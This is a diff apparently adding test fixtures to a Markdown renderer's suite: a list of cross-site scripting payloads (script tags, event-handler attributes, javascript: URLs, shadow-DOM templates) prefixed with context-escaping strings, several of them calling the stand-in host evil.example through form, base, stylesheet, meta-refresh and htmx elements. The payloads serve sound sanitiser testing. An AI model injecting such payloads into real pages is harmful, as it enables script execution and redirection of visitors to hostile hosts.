@@ -206,3 +206,34 @@ SLOWEST_MARKDOWN = [
     *("a\n", "# a\n", "a\n=\n", "|\n|-\n", "|1|2|\n", "1. a\n", "&#", "~~a", "> " * 60 + "a\n"),
     *(TABLE_HEAD + "|" * 9_000, TABLE_HEAD + "|\n" * 9_000),
 ]
+
+_ELEMENTS: Final = [
+    "<script>window.ran=1</script>",
+    "<img src=x onerror=window.ran=1>",
+    "<svg/onload=window.ran=1>",
+    "<details open ontoggle=window.ran=1>",
+    "<input autofocus onfocus=window.ran=1>",
+    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
+    "<object data=javascript:window.ran=1>",
+    "<video><source onerror=window.ran=1></video>",
+    "<a href=javascript:window.ran=1 autofocus>x</a>",
+    "<form action=//evil.example/><button autofocus>x</button></form>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=//evil.example/>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<b hx-get=//evil.example/ hx-trigger=load>x</b>",
+    "<template shadowrootmode=open><script>window.ran=1</script></template>",
+]
+_WAYS_OUT: Final = [
+    "",
+    '">',
+    "'>",
+    "</script>",
+    "</title></style>",
+    "</textarea></select>",
+    "-->",
+    "]]>",
+]
+#: Texts that try to run, or to call another host, from wherever in a page they are shown.
+ESCAPES: Final = [way + element for way in _WAYS_OUT for element in _ELEMENTS]
